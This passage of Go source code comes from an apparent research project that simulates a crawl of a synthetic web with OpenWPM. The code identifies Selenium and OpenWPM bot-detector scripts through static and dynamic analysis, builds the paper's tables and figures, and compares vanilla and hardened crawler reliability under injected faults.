	if _, err := RunBundleDiff(1, BundleDiffOptions{NumSites: 2, Variant: "bogus"}); err == nil {
		t.Fatal("unknown variant accepted")
	}
}
