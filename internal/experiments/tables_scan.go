package experiments

import (
	"fmt"

	"gullible/internal/analysis"
	"gullible/internal/study"
	"gullible/internal/websim"
)

// Table5 builds "Number of websites with Selenium detectors".
func Table5(r *ScanResult) *Table {
	t := &Table{
		ID:     "Table 5",
		Title:  "Number of websites with Selenium detectors",
		Header: []string{"# sites", "static", "dynamic", "union", "paper static", "paper dynamic", "paper union"},
	}
	rawUnion := union(r.StaticRaw, r.DynamicRaw)
	cleanUnion := union(r.StaticClean, r.DynamicClean)
	scale := float64(r.NumSites) / 100000
	t.AddRow("identified",
		len(r.StaticRaw), len(r.DynamicRaw), len(rawUnion),
		int(32694*scale), int(19139*scale), int(38264*scale))
	t.AddRow("without FP / 'inconclusive'",
		len(r.StaticClean), len(r.DynamicClean), len(cleanUnion),
		int(15838*scale), int(16762*scale), int(18714*scale))
	t.Notes = append(t.Notes, fmt.Sprintf("scan of %d sites; paper columns scaled from the Tranco Top-100K", r.NumSites))
	return t
}

// Table6 builds "Sites with scripts probing OpenWPM-specific properties".
func Table6(r *ScanResult) *Table {
	providers := []struct {
		host, label string
		paperTotal  int
	}{
		{websim.HostCheqzone, "cz", 331},
		{websim.HostGoogleSynd, "gs", 14},
		{websim.HostGoogle, "google.com", 9},
		{websim.HostAdzouk, "ad1t", 2},
	}
	t := &Table{
		ID:     "Table 6",
		Title:  "Sites with scripts probing OpenWPM-specific properties",
		Header: []string{"", "cz", "gs", "google.com", "ad1t"},
	}
	scale := float64(r.NumSites) / 100000
	totalRow := []any{"total"}
	markerRows := map[string][]any{
		"jsInstruments":                {"jsInstruments"},
		"instrumentFingerprintingApis": {"instrumentFingerprintingApis"},
		"getInstrumentJS":              {"getInstrumentJS"},
	}
	for _, p := range providers {
		markers := r.OpenWPMProbes[p.host]
		total := map[string]bool{}
		for _, sites := range markers {
			for s := range sites {
				total[s] = true
			}
		}
		totalRow = append(totalRow, fmt.Sprintf("%d (paper %d)", len(total), int(float64(p.paperTotal)*scale)))
		for _, m := range analysis.OpenWPMMarkers {
			markerRows[m] = append(markerRows[m], len(markers[m]))
		}
	}
	t.AddRow(totalRow...)
	for _, m := range analysis.OpenWPMMarkers {
		t.AddRow(markerRows[m]...)
	}
	return t
}

// Table7 builds "Domains hosting 3rd-party detector scripts".
func Table7(r *ScanResult) *Table {
	t := &Table{
		ID:     "Table 7",
		Title:  "Domains hosting third-party detector scripts (one inclusion per site)",
		Header: []string{"rank", "hosting domain", "# inclusions", "%"},
	}
	counts := map[string]int{}
	total := 0
	for dom, sites := range r.ThirdPartyInclusions {
		counts[dom] = len(sites)
		total += len(sites)
	}
	t.AddRow(0, "all", total, "100%")
	domains := sortedKeysByCount(counts)
	rest := total
	for i, d := range domains {
		if i >= 10 {
			break
		}
		t.AddRow(i+1, d, counts[d], pct(counts[d], total))
		rest -= counts[d]
	}
	if len(domains) > 10 {
		t.AddRow("11+", fmt.Sprintf("remaining %d domains", len(domains)-10), rest, pct(rest, total))
	}
	t.Notes = append(t.Notes,
		"paper: yandex.ru 18.04%, adsafeprotected.com 10.83%, moatads.com 10.15%, webgains.io 9.81%, crazyegg.com 7.28%; top 10 ≈ 2/3 of inclusions")
	return t
}

// Table11 builds "Studies measuring webdriver property access on front pages".
func Table11(r *ScanResult) *Table {
	t := &Table{
		ID:     "Table 11",
		Title:  "webdriver-probing sites on front pages, vs prior studies",
		Header: []string{"study", "when", "analysis", "corpus", "# sites", "%"},
	}
	for _, p := range study.Table11Prior {
		t.AddRow(p.Ref, p.When, p.Analysis, p.Corpus, p.Sites, fmt.Sprintf("%.2f%%", p.Percent))
	}
	frontUnion := union(r.FrontStaticClean, r.FrontDynamicClean)
	corpus := fmt.Sprintf("synthetic %dK", r.NumSites/1000)
	t.AddRow("this simulation (combined)", "sim", "combined", corpus, len(frontUnion), pct(len(frontUnion), r.NumSites))
	t.AddRow("this simulation (static)", "sim", "static", corpus, len(r.FrontStaticClean), pct(len(r.FrontStaticClean), r.NumSites))
	t.AddRow("this simulation (dynamic)", "sim", "dynamic", corpus, len(r.FrontDynamicClean), pct(len(r.FrontDynamicClean), r.NumSites))
	return t
}

// Table12 builds "Similarities in first-party detectors" (Appendix A).
func Table12(r *ScanResult) *Table {
	t := &Table{
		ID:     "Table 12",
		Title:  "First-party detector origins by URL-path similarity and content hash",
		Header: []string{"origin", "# sites", "paper # sites (100K)"},
	}
	counts := analysis.ClusterFirstParty(r.FirstPartyScripts)
	paper := map[string]int{
		"Akamai": 1004, "Incapsula": 998, "Unknown": 659, "Cloudflare": 486, "PerimeterX": 134,
	}
	for _, p := range analysis.SortedProviders(counts) {
		t.AddRow(p, counts[p], paper[p])
	}
	// total first-party detector sites
	sites := map[string]bool{}
	for _, s := range r.FirstPartyScripts {
		sites[s.Site] = true
	}
	t.AddRow("all first-party detector sites", len(sites), 3867)
	return t
}

// Table13 evaluates the Appendix-B static patterns against the collected
// script corpus, reporting which produce false positives.
func Table13(r *ScanResult) *Table {
	t := &Table{
		ID:     "Table 13",
		Title:  "Patterns evaluated in static analysis",
		Header: []string{"pattern", "matching scripts", "false positives found", "paper: FPs found"},
	}
	type hit struct{ matches, falsePos int }
	results := make([]hit, len(analysis.StaticPatterns))
	for _, f := range r.Storage.ScriptFiles {
		clean := analysis.Deobfuscate(f.Content)
		res := analysis.AnalyzeStatic(f.Content)
		truePositive := res.SeleniumDetector || len(res.OpenWPMProps) > 0
		for i, p := range analysis.StaticPatterns {
			if p.Match(clean) {
				results[i].matches++
				if !truePositive {
					results[i].falsePos++
				}
			}
		}
	}
	for i, p := range analysis.StaticPatterns {
		t.AddRow(p.Name, results[i].matches, check(results[i].falsePos > 0), check(p.HasFalsePositives))
	}
	return t
}

// Figure3 builds "Number of sites with bot detectors on front- and subpages"
// per 1K-rank bucket.
func Figure3(r *ScanResult) *Table {
	t := &Table{
		ID:     "Figure 3",
		Title:  "Sites with bot detectors on front- and subpages (per 1K-rank bucket)",
		Header: []string{"rank bucket", "front pages", "front+subpages", "increase"},
	}
	front := union(r.FrontStaticClean, r.FrontDynamicClean)
	all := union(r.StaticClean, r.DynamicClean)
	fb := r.bucketCounts(front)
	ab := r.bucketCounts(all)
	step := len(fb)/10 + 1
	for i := 0; i < len(fb); i += step {
		fSum, aSum := 0, 0
		end := min(i+step, len(fb))
		for j := i; j < end; j++ {
			fSum += fb[j]
			aSum += ab[j]
		}
		t.AddRow(fmt.Sprintf("%dK-%dK", i, end), fSum, aSum, diffPct(fSum, aSum))
	}
	fTot, aTot := len(front), len(all)
	t.AddRow("total", fTot, aTot, diffPct(fTot, aTot))
	t.Notes = append(t.Notes, "paper: subpage crawling increases detector exposure by ≥37% (14% → 19% of sites)")
	return t
}

// Figure4 builds "Detectors found on front pages" — static vs dynamic per
// rank bucket.
func Figure4(r *ScanResult) *Table {
	t := &Table{
		ID:     "Figure 4",
		Title:  "Detectors on front pages: static vs dynamic per rank bucket",
		Header: []string{"rank bucket", "static", "dynamic", "union"},
	}
	sb := r.bucketCounts(r.FrontStaticClean)
	db := r.bucketCounts(r.FrontDynamicClean)
	ub := r.bucketCounts(union(r.FrontStaticClean, r.FrontDynamicClean))
	step := len(sb)/10 + 1
	for i := 0; i < len(sb); i += step {
		sSum, dSum, uSum := 0, 0, 0
		end := min(i+step, len(sb))
		for j := i; j < end; j++ {
			sSum += sb[j]
			dSum += db[j]
			uSum += ub[j]
		}
		t.AddRow(fmt.Sprintf("%dK-%dK", i, end), sSum, dSum, uSum)
	}
	t.AddRow("total", len(r.FrontStaticClean), len(r.FrontDynamicClean),
		len(union(r.FrontStaticClean, r.FrontDynamicClean)))
	t.Notes = append(t.Notes, "paper: static 11,897 and dynamic 12,208 front-page sites; union ≈ 13,989; ~1.7K sites found by only one method")
	return t
}

// Figure5 builds "Common categories of sites with detectors".
func Figure5(r *ScanResult) *Table {
	t := &Table{
		ID:     "Figure 5",
		Title:  "Site categories of detector inclusions (first- vs third-party)",
		Header: []string{"category", "first-party", "first %", "third-party", "third %"},
	}
	first, third := r.categoryCounts()
	fTotal, tTotal := 0, 0
	for _, v := range first {
		fTotal += v
	}
	for _, v := range third {
		tTotal += v
	}
	cats := sortedKeysByCount(third)
	// include first-party-heavy categories missing from the third ranking
	seen := map[string]bool{}
	for _, c := range cats {
		seen[c] = true
	}
	for _, c := range sortedKeysByCount(first) {
		if !seen[c] {
			cats = append(cats, c)
		}
	}
	if len(cats) > 16 {
		cats = cats[:16]
	}
	for _, c := range cats {
		t.AddRow(c, first[c], pct(first[c], fTotal), third[c], pct(third[c], tTotal))
	}
	t.Notes = append(t.Notes,
		"paper: third-party leaders News 18.4%, Technology 9%, Business 7%; first-party leaders Shopping 16.4%, Finance 8%, Travel 7%")
	return t
}
