package experiments

import (
	"sort"

	"gullible/internal/analysis"
	"gullible/internal/bundle"
	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

// ProgressObserver receives scan progress. The scan also keeps the
// crawl_progress_done/crawl_progress_total gauges current when running with
// telemetry, so registry consumers see progress without a callback.
type ProgressObserver interface {
	OnProgress(done, total int)
}

// ProgressFunc adapts the legacy progress callback signature to
// ProgressObserver; a nil func observes nothing.
type ProgressFunc func(done, total int)

// OnProgress implements ProgressObserver.
func (f ProgressFunc) OnProgress(done, total int) {
	if f != nil {
		f(done, total)
	}
}

// ScanResult carries the Sec. 4 scan of the synthetic Tranco list plus the
// derived per-site classifications used by Tables 5–7 and 11–12 and
// Figures 3–5.
type ScanResult struct {
	NumSites int
	World    *websim.World
	Storage  *openwpm.Storage
	Honey    []string

	// Per-site detector classification (keyed by site eTLD+1).
	StaticRaw    map[string]bool // naive 'webdriver' pattern, front+sub
	StaticClean  map[string]bool // context-aware patterns
	DynamicRaw   map[string]bool // any webdriver/marker access recorded
	DynamicClean map[string]bool // detector class (iterators resolved)

	FrontStaticRaw    map[string]bool
	FrontStaticClean  map[string]bool
	FrontDynamicRaw   map[string]bool
	FrontDynamicClean map[string]bool

	// OpenWPM-specific probes: provider host → marker → site set.
	OpenWPMProbes map[string]map[string]map[string]bool

	// Third-party inclusions: hosting domain → site set.
	ThirdPartyInclusions map[string]map[string]bool
	// First-party detector scripts for Appendix-A clustering.
	FirstPartyScripts []analysis.FirstPartyScript

	// Site rank per eTLD+1 (for bucket figures) and category lookup.
	SiteRank map[string]int

	// Report is the crawl-level reliability accounting (completion,
	// restarts, error taxonomy), merged across workers.
	Report *openwpm.CrawlReport
	// Bundle is the sealed execution bundle when the scan ran with
	// ScanOptions.RecordBundle.
	Bundle *bundle.Bundle
	// FaultKinds tallies injected faults by kind name, merged across the
	// per-worker injectors (empty when the scan ran fault-free).
	FaultKinds map[string]int
	// Metrics is the final telemetry snapshot when the scan ran with
	// ScanOptions.Telemetry (nil otherwise).
	Metrics *telemetry.Snapshot
	// Trace is the merged whole-crawl span stream when the scan ran with
	// ScanOptions.Telemetry: per-shard flight-recorder events renumbered to
	// globally unique span ids, in shard order (see sched.Result.Trace).
	Trace []telemetry.SpanEvent
	// Workers is the effective (clamped) parallel worker count the
	// scheduler used for the crawl.
	Workers int

	// Interrupted is set when ScanOptions.Stop ended the crawl early; only
	// Checkpoint, FaultKinds and Workers are populated then, and passing
	// Checkpoint back via ScanOptions.Resume finishes the scan.
	Interrupted bool
	// Checkpoint is the scheduler's final per-shard state.
	Checkpoint *sched.Checkpoint
}

// scanCrawlConfig is the Sec. 4 crawler configuration.
func scanCrawlConfig(world *websim.World, maxSubpages int) openwpm.CrawlConfig {
	return openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: world, ClientID: "scan-client",
		DwellSeconds: 60,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		HTTPFilterJSOnly: true, // "stores a copy of any transmitted JavaScript file"
		HoneyProps:       4,
		MaxSubpages:      maxSubpages,
		// every stored script is statically analysed at crawl time; the
		// persisted tamper table feeds the static/dynamic agreement report
		Tamper: analysis.TamperRecorder,
	}
}

// ScanOptions augments the Sec. 4 scan with reliability controls: a fault
// profile to inject, and the hardening knobs forwarded to the crawler.
type ScanOptions struct {
	MaxSubpages int

	// Sites, when non-empty, is the explicit crawl list; the default is the
	// top-numSites ranked prefix of the synthetic web (websim.Tranco). The
	// daemon uses this to serve jobs over arbitrary site subsets.
	Sites []string

	// Workers is the parallel worker count, clamped by sched.Workers: zero
	// means GOMAXPROCS, and a crawl never gets more workers than sites.
	Workers int

	// FaultProfile, when non-nil, wraps the world in a per-worker seeded
	// fault injector.
	FaultProfile *faults.Profile
	FaultSeed    int64

	// Hardening knobs (zero values = vanilla behaviour).
	MaxVisitSeconds  float64
	MaxRetries       int
	BreakerThreshold int

	// DisableVM runs page scripts on the tree-walking interpreter instead
	// of the bytecode VM. Scan artifacts are byte-identical either way;
	// verify.sh crawls the corpus both ways and compares digests.
	DisableVM bool

	// RecordBundle archives the scan into an execution bundle. Each worker
	// records its own shard and the scheduler merges the shard bundles into
	// one sealed archive — recording no longer forces a single worker, and
	// the merged bundle's digest is identical at any worker count.
	RecordBundle bool
	// BundleMeta labels the recorded bundle's manifest (seeds, scenario
	// names — deterministic content only).
	BundleMeta map[string]string

	// ReplayBundle, when non-nil, serves the scan from the archived crawl
	// instead of the live world (each worker gets its own replay cursor
	// over the shared read-only bundle). MissPolicy governs requests the
	// bundle never saw.
	ReplayBundle *bundle.Bundle
	MissPolicy   bundle.MissPolicy

	// Telemetry, when non-nil, instruments the scan end to end. Worker
	// TaskManagers share this one registry (counters and histograms are
	// atomic and order-independent, so sharded snapshots stay
	// deterministic); the final whole-scan snapshot lands in
	// ScanResult.Metrics and Report.Metrics.
	Telemetry *telemetry.Telemetry

	// DetachMetrics keeps the telemetry snapshot out of the recorded
	// bundle's report so artifacts stay digest-identical across runs that
	// share a process-lifetime registry; see sched.Crawl.DetachMetrics.
	DetachMetrics bool
	// SpanTap streams every span event live, tagged with its recording
	// shard; see sched.Crawl.SpanTap for the concurrency contract.
	SpanTap func(shard int, ev telemetry.SpanEvent)

	// Backend, when non-nil, gives each shard a durable storage backend
	// (the WAL); see sched.Crawl.Backend for the contract.
	Backend func(sched.Shard) openwpm.Backend
	// Stop, when non-nil, interrupts the scan cooperatively at the next
	// site boundary; the interrupted result carries a resumable checkpoint.
	Stop <-chan struct{}
	// Resume continues an interrupted or WAL-recovered scan from its
	// checkpoint; completed sites are not revisited.
	Resume *sched.Checkpoint
}

// RunScan crawls the top numSites sites of the synthetic web with a vanilla
// OpenWPM client (regular mode, JS+HTTP instruments, honey properties,
// subpage crawling) and derives all detector classifications. Sites are
// sharded across GOMAXPROCS parallel browsers — OpenWPM, too, runs multiple
// browsers against the same measurement database.
func RunScan(world *websim.World, numSites, maxSubpages int, progress func(done, total int)) *ScanResult {
	return RunScanOpts(world, numSites, ScanOptions{MaxSubpages: maxSubpages}, progress)
}

// RunScanOpts is RunScan with fault injection and hardening options; the
// legacy callback signature adapts onto RunScanObserved. Callers that record
// bundles should use RunScanObserved directly — this wrapper has no error
// path, so an archive-layer failure (bundle finalisation or merge) panics.
func RunScanOpts(world *websim.World, numSites int, opts ScanOptions, progress func(done, total int)) *ScanResult {
	r, err := RunScanObserved(world, numSites, opts, ProgressFunc(progress))
	if err != nil {
		panic(err)
	}
	return r
}

// RunScanObserved is the primary scan entry point: the crawl is sharded
// across opts.Workers parallel TaskManagers by the scheduler (contiguous
// rank slices, merged back in shard order), progress flows through a
// ProgressObserver — intermediate ticks every 1000 sites plus always a final
// (total, total) event — and, when opts.Telemetry is set, through the
// registry's progress gauges updated on every visit. Each worker gets its
// own injector (same seed), recorder and replay cursor, so fault sequencing,
// recording and replay all stay deterministic per shard; merged storage,
// report and bundle bytes are identical at any worker count.
func RunScanObserved(world *websim.World, numSites int, opts ScanOptions, obs ProgressObserver) (*ScanResult, error) {
	urls := opts.Sites
	if len(urls) == 0 {
		urls = websim.Tranco(numSites)
	}
	crawl := sched.Crawl{
		Sites:         urls,
		Workers:       opts.Workers,
		Record:        opts.RecordBundle,
		BundleMeta:    opts.BundleMeta,
		Telemetry:     opts.Telemetry,
		DetachMetrics: opts.DetachMetrics,
		SpanTap:       opts.SpanTap,
		Backend:       opts.Backend,
		Stop:          opts.Stop,
		Resume:        opts.Resume,
		Config: func(sh sched.Shard) openwpm.CrawlConfig {
			cfg := scanCrawlConfig(world, opts.MaxSubpages)
			cfg.MaxVisitSeconds = opts.MaxVisitSeconds
			if opts.MaxRetries > 0 {
				cfg.MaxRetries = opts.MaxRetries
			}
			cfg.BreakerThreshold = opts.BreakerThreshold
			cfg.DisableVM = opts.DisableVM
			switch {
			case opts.ReplayBundle != nil:
				// offline re-analysis: serve the archived crawl; the recorded
				// faults (errors and storage drops) replay with it, so a live
				// injector on top would double-fault. The shard's transport is
				// offset by the preceding shards' write totals so the
				// bundle-global storage-drop positions localise correctly.
				rt := bundle.NewReplayTransport(opts.ReplayBundle, opts.MissPolicy, nil)
				if sh.Start > 0 {
					rt.OffsetStorage(opts.ReplayBundle.StorageWritesFor(urls[:sh.Start]))
				}
				cfg.Transport = rt
			case opts.FaultProfile != nil:
				inj := faults.NewInjector(opts.FaultSeed, *opts.FaultProfile, world)
				inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
				inj.SetTelemetry(opts.Telemetry)
				cfg.Transport = inj
			}
			cfg.Telemetry = opts.Telemetry
			return cfg
		},
	}
	if obs != nil {
		crawl.OnProgress = obs.OnProgress
	}
	res, err := sched.Run(crawl)
	if err != nil {
		return nil, err
	}
	if res.Interrupted {
		// no merged outputs exist yet; the checkpoint resumes the scan (its
		// WAL backends, when present, stay open for the resuming process)
		return &ScanResult{
			NumSites: numSites, World: world,
			Interrupted: true, Checkpoint: res.Checkpoint,
			FaultKinds: res.FaultKinds, Workers: res.Workers,
		}, nil
	}
	merged := openwpm.NewTaskManager(scanCrawlConfig(world, opts.MaxSubpages))
	merged.Storage = res.Storage
	r := Analyze(world, merged, numSites)
	r.Report = res.Report
	r.Metrics = res.Metrics
	r.Trace = res.Trace
	r.Bundle = res.Bundle
	r.FaultKinds = res.FaultKinds
	r.Workers = res.Workers
	r.Checkpoint = res.Checkpoint
	return r, nil
}

// Analyze derives the scan classifications from a completed crawl.
func Analyze(world *websim.World, tm *openwpm.TaskManager, numSites int) *ScanResult {
	st := tm.Storage
	r := &ScanResult{
		NumSites: numSites, World: world, Storage: st,
		Honey:                openwpm.HoneyNames(tm.Cfg.ClientID, tm.Cfg.HoneyProps),
		StaticRaw:            map[string]bool{},
		StaticClean:          map[string]bool{},
		DynamicRaw:           map[string]bool{},
		DynamicClean:         map[string]bool{},
		FrontStaticRaw:       map[string]bool{},
		FrontStaticClean:     map[string]bool{},
		FrontDynamicRaw:      map[string]bool{},
		FrontDynamicClean:    map[string]bool{},
		OpenWPMProbes:        map[string]map[string]map[string]bool{},
		ThirdPartyInclusions: map[string]map[string]bool{},
		SiteRank:             map[string]int{},
	}
	for rank := 1; rank <= numSites; rank++ {
		r.SiteRank[httpsim.ETLDPlusOne(websim.SiteDomain(rank))] = rank
	}

	// Map script URL → (site, front?) inclusion contexts from the request log.
	type ctx struct {
		site  string
		front bool
	}
	scriptSites := map[string][]ctx{}
	for _, req := range st.Requests {
		if req.Type != httpsim.TypeScript {
			continue
		}
		site := httpsim.ETLDPlusOne(httpsim.Host(req.TopURL))
		front := httpsim.Path(req.TopURL) == "/"
		scriptSites[req.URL] = append(scriptSites[req.URL], ctx{site, front})
	}

	// ---- static analysis over stored script files ----------------------
	// Unique content is analysed once; classifications apply to every URL
	// that served it and every site that included those URLs.
	staticByURL := map[string]analysis.StaticResult{}
	for _, f := range st.ScriptFiles {
		res := analysis.AnalyzeStatic(f.Content)
		naive := false
		for _, hit := range res.PatternHits {
			if hit == "webdriver" {
				naive = true
			}
		}
		clean := res.SeleniumDetector || len(res.OpenWPMProps) > 0
		for _, url := range f.URLs {
			staticByURL[url] = res
			for _, c := range scriptSites[url] {
				if r.SiteRank[c.site] == 0 {
					continue
				}
				if naive || clean {
					r.StaticRaw[c.site] = true
					if c.front {
						r.FrontStaticRaw[c.site] = true
					}
				}
				if clean {
					r.StaticClean[c.site] = true
					if c.front {
						r.FrontStaticClean[c.site] = true
					}
				}
				// first-party detector corpus
				if clean && httpsim.ETLDPlusOne(httpsim.Host(url)) == c.site {
					r.FirstPartyScripts = append(r.FirstPartyScripts, analysis.FirstPartyScript{
						Site: c.site, URL: url, Content: f.Content,
					})
				}
			}
		}
	}

	// ---- dynamic analysis over recorded calls ---------------------------
	staticFlagged := func(url string) bool {
		res, ok := staticByURL[url]
		return ok && (res.SeleniumDetector || len(res.OpenWPMProps) > 0)
	}
	dyn := analysis.AnalyzeDynamic(st.JSCalls, r.Honey, staticFlagged)
	// script URL → per-top-URL context comes from the calls themselves
	callTops := map[string]map[string]bool{}
	for _, c := range st.JSCalls {
		if c.ScriptURL == "" {
			continue
		}
		if callTops[c.ScriptURL] == nil {
			callTops[c.ScriptURL] = map[string]bool{}
		}
		callTops[c.ScriptURL][c.TopURL] = true
	}
	for _, d := range dyn {
		if d.Class == analysis.ClassNone {
			continue
		}
		for top := range callTops[d.URL] {
			site := httpsim.ETLDPlusOne(httpsim.Host(top))
			if r.SiteRank[site] == 0 {
				continue
			}
			front := httpsim.Path(top) == "/"
			r.DynamicRaw[site] = true
			if front {
				r.FrontDynamicRaw[site] = true
			}
			if d.Class == analysis.ClassSeleniumDetector {
				r.DynamicClean[site] = true
				if front {
					r.FrontDynamicClean[site] = true
				}
			}
		}
		// OpenWPM-specific probes by provider host
		if len(d.OpenWPMProps) > 0 && d.Class == analysis.ClassSeleniumDetector {
			provider := httpsim.ETLDPlusOne(httpsim.Host(d.URL))
			if r.OpenWPMProbes[provider] == nil {
				r.OpenWPMProbes[provider] = map[string]map[string]bool{}
			}
			for _, marker := range d.OpenWPMProps {
				if r.OpenWPMProbes[provider][marker] == nil {
					r.OpenWPMProbes[provider][marker] = map[string]bool{}
				}
				for top := range callTops[d.URL] {
					site := httpsim.ETLDPlusOne(httpsim.Host(top))
					if r.SiteRank[site] != 0 {
						r.OpenWPMProbes[provider][marker][site] = true
					}
				}
			}
		}
	}

	// ---- third-party inclusion tally ------------------------------------
	// precomputed set of dynamically confirmed detector scripts: this tally
	// must stay O(urls + classifications), not their product — at 100K
	// sites the product is hundreds of billions of comparisons
	dynDetectorURL := map[string]bool{}
	for _, d := range dyn {
		if d.Class == analysis.ClassSeleniumDetector {
			dynDetectorURL[d.URL] = true
		}
	}
	for url, ctxs := range scriptSites {
		host := httpsim.Host(url)
		res := staticByURL[url]
		isDetectorHost := res.SeleniumDetector || len(res.OpenWPMProps) > 0 || dynDetectorURL[url]
		if !isDetectorHost {
			continue
		}
		for _, c := range ctxs {
			if r.SiteRank[c.site] == 0 || httpsim.ETLDPlusOne(host) == c.site {
				continue // first-party
			}
			dom := httpsim.ETLDPlusOne(host)
			if r.ThirdPartyInclusions[dom] == nil {
				r.ThirdPartyInclusions[dom] = map[string]bool{}
			}
			r.ThirdPartyInclusions[dom][c.site] = true
		}
	}
	return r
}

// union combines site sets.
func union(sets ...map[string]bool) map[string]bool {
	out := map[string]bool{}
	for _, s := range sets {
		for k := range s {
			out[k] = true
		}
	}
	return out
}

// bucketCounts groups a site set into per-1000-rank buckets.
func (r *ScanResult) bucketCounts(set map[string]bool) []int {
	buckets := make([]int, (r.NumSites+999)/1000)
	for site := range set {
		rank := r.SiteRank[site]
		if rank == 0 {
			continue
		}
		buckets[(rank-1)/1000]++
	}
	return buckets
}

// categoryCounts tallies inclusion categories for detector sites, split by
// first-party vs third-party deployment (Fig. 5).
func (r *ScanResult) categoryCounts() (first, third map[string]int) {
	first, third = map[string]int{}, map[string]int{}
	fpSites := map[string]bool{}
	for _, s := range r.FirstPartyScripts {
		fpSites[s.Site] = true
	}
	for site := range union(r.StaticClean, r.DynamicClean) {
		rank := r.SiteRank[site]
		if rank == 0 {
			continue
		}
		cat := r.World.Site(rank).Category
		if fpSites[site] {
			first[cat]++
		}
	}
	for _, sites := range r.ThirdPartyInclusions {
		for site := range sites {
			rank := r.SiteRank[site]
			if rank == 0 {
				continue
			}
			third[r.World.Site(rank).Category]++
		}
	}
	return first, third
}

// sortedKeysByCount orders map keys by descending count.
func sortedKeysByCount(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		if m[keys[i]] != m[keys[j]] {
			return m[keys[i]] > m[keys[j]]
		}
		return keys[i] < keys[j]
	})
	return keys
}
