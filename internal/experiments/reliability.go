package experiments

import (
	"fmt"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

// ReliabilityResult compares the vanilla (pre-hardening) and hardened crawl
// pipelines under identical fault seeds: same synthetic web, same injected
// fault sequence, two recovery strategies.
type ReliabilityResult struct {
	Sites     int
	WorldSeed int64
	FaultSeed int64

	// FaultKinds tallies the faults the hardened run was subjected to, by
	// kind name (the vanilla run sees the same seeded stream).
	FaultKinds map[string]int

	Vanilla  *openwpm.CrawlReport
	Hardened *openwpm.CrawlReport

	// VanillaTrace and HardenedTrace hold each run's flight-recorder span
	// events when ReliabilityOptions.Telemetry is set (nil otherwise).
	VanillaTrace  []telemetry.SpanEvent
	HardenedTrace []telemetry.SpanEvent

	// Interrupted is set when ReliabilityOptions.Stop ended a run early; a
	// partial experiment must not be compared (Hardened may be nil).
	Interrupted bool
}

// ReliabilityOptions configures RunReliability.
type ReliabilityOptions struct {
	NumSites int
	Profile  faults.Profile
	// Workers is the parallel worker count per run, clamped by
	// sched.Workers (zero means GOMAXPROCS). Each shard gets its own
	// injector and a proportional slice of the crawl-time budget.
	Workers int
	// DwellSeconds per page (default 5 — reliability runs don't need the
	// paper's full 60 s dwell).
	DwellSeconds float64
	// CrawlSecondsPerSite sizes the crawl-level virtual budget both
	// pipelines get (default 60 s per site). The budget is what makes hangs
	// hurt the vanilla pipeline: with no watchdog, each hang burns minutes
	// of it.
	CrawlSecondsPerSite float64
	// Telemetry instruments both runs. Each run gets its own fresh registry
	// (attached to its CrawlReport.Metrics) so the vanilla and hardened
	// pipelines can be compared metric by metric, not just by report.
	Telemetry bool
	// Stop, when non-nil, interrupts the experiment cooperatively: the
	// in-flight crawl halts at its next site boundary and
	// ReliabilityResult.Interrupted is set (the comparison is invalid on an
	// interrupted run — reports may be partial or missing).
	Stop <-chan struct{}
}

// RunReliability crawls the same ranked prefix twice under the same fault
// seed — once with the blind pre-hardening retry loop, once with the
// hardened pipeline (watchdog, classification, backoff, breaker, salvage) —
// and returns both crawl reports. Each run gets a fresh world and a fresh
// injector, so the fault streams are identical.
func RunReliability(worldSeed, faultSeed int64, opts ReliabilityOptions) *ReliabilityResult {
	if opts.NumSites == 0 {
		opts.NumSites = 500
	}
	if opts.DwellSeconds == 0 {
		opts.DwellSeconds = 5
	}
	if opts.CrawlSecondsPerSite == 0 {
		opts.CrawlSecondsPerSite = 60
	}
	if len(opts.Profile.Buckets) == 0 {
		opts.Profile = faults.DefaultProfile()
	}

	run := func(hardened bool) (*openwpm.CrawlReport, []telemetry.SpanEvent, map[string]int, bool) {
		world := websim.New(websim.Options{Seed: worldSeed, NumSites: opts.NumSites, AvailabilityAttacks: true})
		var tel *telemetry.Telemetry
		if opts.Telemetry {
			// one registry per run: vanilla and hardened metrics must not mix
			tel = telemetry.New()
		}
		res, err := sched.Run(sched.Crawl{
			Sites:     websim.Tranco(opts.NumSites),
			Workers:   opts.Workers,
			Telemetry: tel,
			Stop:      opts.Stop,
			Config: func(sh sched.Shard) openwpm.CrawlConfig {
				// per-shard injector (same seed: fault decisions hash per
				// URL) and a budget slice proportional to the shard's size
				inj := faults.NewInjector(faultSeed, opts.Profile, world)
				inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
				inj.SetTelemetry(tel)
				cfg := openwpm.CrawlConfig{
					OS: jsdom.Ubuntu, Mode: jsdom.Regular,
					Transport: inj, ClientID: "reliability-client",
					DwellSeconds:   opts.DwellSeconds,
					HTTPInstrument: true, CookieInstrument: true,
					MaxCrawlSeconds: float64(len(sh.Sites)) * opts.CrawlSecondsPerSite,
					Telemetry:       tel,
				}
				if hardened {
					cfg = cfg.Hardened()
				} else {
					cfg.BlindRetry = true
				}
				return cfg
			},
		})
		if err != nil {
			// sched.Run only fails on record-mode archive merges and resume
			// validation, neither of which this crawl uses
			panic(err)
		}
		// res.Trace is the scheduler's merged per-shard span stream: the
		// shared registry's own flight recorder stays empty now that each
		// shard records spans locally
		return res.Report, res.Trace, res.FaultKinds, res.Interrupted
	}

	vanilla, vtrace, _, vint := run(false)
	r := &ReliabilityResult{
		Sites:        opts.NumSites,
		WorldSeed:    worldSeed,
		FaultSeed:    faultSeed,
		Vanilla:      vanilla,
		VanillaTrace: vtrace,
		Interrupted:  vint,
	}
	if vint {
		// the experiment is a paired comparison; an interrupted first leg
		// makes the second pointless
		return r
	}
	hardened, htrace, kinds, hint := run(true)
	r.Hardened = hardened
	r.HardenedTrace = htrace
	r.FaultKinds = kinds
	r.Interrupted = hint
	return r
}

// TableReliability renders the vanilla-vs-hardened comparison.
func TableReliability(r *ReliabilityResult) *Table {
	t := &Table{
		ID:     "Reliability",
